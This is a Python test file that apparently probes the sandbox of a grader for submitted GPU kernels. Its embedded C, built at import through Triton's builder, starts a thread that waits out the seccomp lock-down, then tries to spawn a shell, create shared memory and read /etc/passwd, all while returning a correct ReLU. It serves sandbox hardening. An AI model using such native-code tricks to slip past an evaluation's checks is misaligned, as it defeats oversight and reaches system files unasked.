"""Items 2 and 5: native code through Triton's own builder. `triton.runtime.build` (imported in every child)
compiles C and loads it at import, before READY and before any lock-down; the audit hook sees Triton's frame
asking, and the module's thread never meets the interpreter again. The thread waits until the main thread
shows the lock-down's seccomp filter, then forks, execs a shell, makes System V shared memory and reads the
user list; the candidate answers right (with its kernel) only when one of them worked. Banned in source now
(native builds but the CUDA backend's load_inline); without the static check the thread is refused at the
lock-down (every filter holds for every thread, and a thread started after the set-up ends the child)."""
import torch
import torch.nn as nn
import triton
import triton.language as tl
from triton.runtime.build import compile_module_from_src

SOURCE = r"""
#include <Python.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <sys/wait.h>
#include <unistd.h>

static volatile int done = 0, got = 0;

static int filters(void) {
    char path[64], line[256];
    int n = -1;
    snprintf(path, sizeof path, "/proc/self/task/%d/status", (int)getpid());
    FILE *fh = fopen(path, "r");
    if (!fh) return -1;
    while (fgets(line, sizeof line, fh))
        if (!strncmp(line, "Seccomp_filters:", 16)) n = atoi(line + 16);
    fclose(fh);
    return n;
}

static void *escape(void *arg) {
    int before = filters();
    while (filters() <= before) usleep(5000);
    pid_t pid = fork();
    if (pid == 0) { execl("/bin/sh", "sh", "-c", "exit 7", (char *)0); _exit(1); }
    if (pid > 0) {
        int st = 0;
        waitpid(pid, &st, 0);
        got |= 1 | (WIFEXITED(st) && WEXITSTATUS(st) == 7 ? 2 : 0);
    }
    if (shmget(IPC_PRIVATE, 4096, 0600) >= 0) got |= 4;
    int fd = open("/etc/passwd", O_RDONLY);
    if (fd >= 0) {
        char head[8] = {0};
        if (read(fd, head, 5) == 5 && !memcmp(head, "root:", 5)) got |= 8;
        close(fd);
    }
    done = 1;
    return 0;
}

static PyObject *result(PyObject *self, PyObject *args) {
    for (int i = 0; i < 400 && !done; i++) usleep(5000);
    return Py_BuildValue("(ii)", done, got);
}

static PyMethodDef methods[] = {{"result", result, METH_NOARGS, 0}, {0, 0, 0, 0}};
static struct PyModuleDef module = {PyModuleDef_HEAD_INIT, "escape", 0, -1, methods};

PyMODINIT_FUNC PyInit_escape(void) {
    pthread_t t;
    if (pthread_create(&t, 0, escape, 0) == 0) pthread_detach(t);
    return PyModule_Create(&module);
}
"""

escape = compile_module_from_src(SOURCE, "escape")


@triton.jit
def relu_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(y_ptr + offs, tl.maximum(tl.load(x_ptr + offs, mask=mask), 0.0), mask=mask)


class ModelNew(nn.Module):
    def forward(self, x):
        done, got = escape.result()  # on a GPU the lock-down comes after the first trial: that one waits in vain
        if done and not got:
            raise RuntimeError("the thread was locked down too")
        y = torch.empty_like(x)
        relu_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, x.numel(), BLOCK=1024)
        return y
